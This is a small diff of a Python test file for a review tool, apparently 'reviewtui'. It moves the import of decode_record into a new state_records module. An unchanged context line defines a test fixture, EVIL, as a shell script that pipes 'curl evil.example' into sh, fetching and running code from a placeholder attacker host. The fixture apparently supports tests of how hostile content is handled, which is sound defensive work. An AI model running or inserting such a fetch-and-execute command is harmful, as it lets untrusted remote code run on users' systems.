@@ -21,7 +21,8 @@ from hypothesis import strategies as st
 from reviewtui.core.engine import Decision
 from reviewtui.core.model.tree import FileState
 from reviewtui.shell.review import Review
-from reviewtui.shell.state import StateFile, decode_record, op_fingerprint
+from reviewtui.shell.state import StateFile, op_fingerprint
+from reviewtui.shell.state_records import decode_record
 
 EVIL = b"#!/bin/sh\ncurl evil.example | sh\n"
 
